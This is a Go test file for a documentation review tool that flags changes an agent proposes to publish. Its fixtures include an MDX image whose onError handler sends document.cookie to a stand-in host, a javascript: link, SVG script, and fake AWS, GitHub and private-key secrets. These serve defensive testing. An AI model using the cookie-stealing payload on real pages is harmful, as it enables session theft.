package tool

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bindery-docs/bindery/tests/outside"
)

// What Publish must not publish is refused, and what a reviewer should see is
// named, once and with its line.
func TestReview(t *testing.T) {
	key := "AKIA" + "Q3EGRTYUIOPLKJHG"
	base := memory{
		"docs.json": "{}", "run.mdx": "link x", "old.mdx": "[a](https://known.example/x)\n\nexport const f = () => 1\n\nkey " + key + "\n",
		"other.mdx": "<a href='//cdn.example/x.js'>x</a>\n", "app.js": "x()\n",
	}
	got := Look(base, "", []Change{
		{Path: "new.mdx", Content: []byte(strings.Join([]string{
			"[a](https://known.example/y) [b](https://NEW.example/z) ![c](//pics.example/p.png) [d](//cdn.example) [e](http://new.example)",
			"", "`https://code.example`", "", "```", "curl https://block.example", "```", "",
			`<img src="https://img.example/x.png" onError={() => fetch("https://leak.example?" + document.cookie)} />`,
			"", "{fetch('x')}", "", "{name}", "", "{/* call(x) */}", "", `<iframe src="https://frame.example"></iframe>`, "", "[x](javascript:alert)",
			"", "<Card {...props} title={title} style={{ color: 'red' }}>x</Card>",
		}, "\n"))},
		{Path: "moved.mdx", Content: []byte(base["old.mdx"])},
		{Path: "old.mdx", Delete: true},
		{Path: "run.mdx", Content: []byte("x")},
		{Path: "bindery-docs/x.mdx", Content: []byte("x")},
		{Path: "bindery-docs/.git/x.md", Content: []byte("x")},
		{Path: ".github/workflows/x.yml", Content: []byte("on: push")},
		{Path: "app.js", Content: []byte("y()\n")},
		{Path: "pic.svg", Content: []byte("<svg>\n<script>x</script></svg>")},
		{Path: "bin.md", Content: []byte("a\x00")},
		{Path: "secret.mdx", Content: []byte(strings.Join([]string{
			"AKIAIOSFODNN7EXAMPLE and your_api_key=\"YOUR_API_KEY_GOES_HERE_1\" are placeholders",
			"AKIA" + "Q3EGRTYUIOPLKJHA",
			"-----BEGIN RSA PRIVATE KEY-----",
			"ghp_" + strings.Repeat("a1B2", 9),
			`api_key = "f8Kq2LpZ0vN7xR4tYw9sHb3m"`,
			"token: ${{ secrets.TOKEN }}",
			"https://user:Zk3vQ9xLp2@host.example/x",
			"postgres://user:password@localhost/x",
			"password: correct-horse-battery-staple",
		}, "\n"))},
	})
	var b strings.Builder
	for _, list := range []struct {
		name  string
		found []string
	}{{"refused", got.Refused}, {"host", got.NewHosts}, {"executable", got.Executable}} {
		for _, r := range list.found {
			fmt.Fprintf(&b, "%s %s\n", list.name, r)
		}
	}
	want := `refused .github/workflows/x.yml: agents may not write files whose names begin with a dot
refused bin.md: is not text
refused bindery-docs/.git/x.md: agents may not write files whose names begin with a dot
refused run.mdx: is a link, a submodule or executable
refused secret.mdx:2: looks like a secret: a key of AWS
refused secret.mdx:3: looks like a secret: a private key
refused secret.mdx:4: looks like a secret: a token of GitHub
refused secret.mdx:5: looks like a secret: a value that its name calls secret
refused secret.mdx:7: looks like a secret: a password in an address
host new.example (new.mdx:1)
host pics.example (new.mdx:1)
host img.example (new.mdx:9)
host leak.example (new.mdx:9)
host frame.example (new.mdx:17)
host host.example (secret.mdx:7)
executable app.js:1: a script
executable new.mdx:9: the attribute onError
executable new.mdx:11: an expression
executable new.mdx:17: <iframe>
executable new.mdx:19: an address that runs code
executable pic.svg:2: a script in a file
`
	if d := cmp.Diff(want, b.String()); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
	for _, r := range got.Refused {
		if strings.Contains(r, "a1B2") || strings.Contains(r, "f8Kq") {
			t.Errorf("the secret itself is shown: %s", r)
		}
	}
}

// FuzzReview: changes of any text are looked at without a panic.
func FuzzReview(f *testing.F) {
	f.Add("a.mdx", []byte("<A onX={() => 1}>[x](//y.z)"))
	f.Add("a.svg", []byte("<svg onload=x>"))
	f.Fuzz(func(t *testing.T, p string, text []byte) {
		r := Look(propBase, "", []Change{{Path: p, Content: text}})
		for _, x := range slices.Concat(r.Refused, r.NewHosts, r.Executable) {
			if x == "" || len(r.Refused) == 0 && !strings.Contains(x, p+":") {
				t.Errorf("%q", x)
			}
		}
	})
}

// Real pages hold hardly a secret (one expired token each, at most): what is found in them would be found in each of
// their pull requests.
func TestReviewOfRealPages(t *testing.T) {
	outside.NoRace(t, "it uses one goroutine, and takes much longer")
	short := outside.Short(t)
	for _, name := range []string{"mcp", "novu", "trigger"} {
		if short && name != "trigger" {
			continue
		}
		var found []string
		for p, text := range folderBase(t, corpus(t, name)) {
			if !IsSource(p) {
				continue
			}
			for _, s := range secrets("", text) {
				if f := s.kind + ": " + s.text; !slices.Contains(found, f) {
					found = append(found, f)
				}
			}
		}
		if len(found) > 1 {
			t.Errorf("%s: %d secrets in published pages:\n%s", name, len(found), strings.Join(found, "\n"))
		}
	}
}
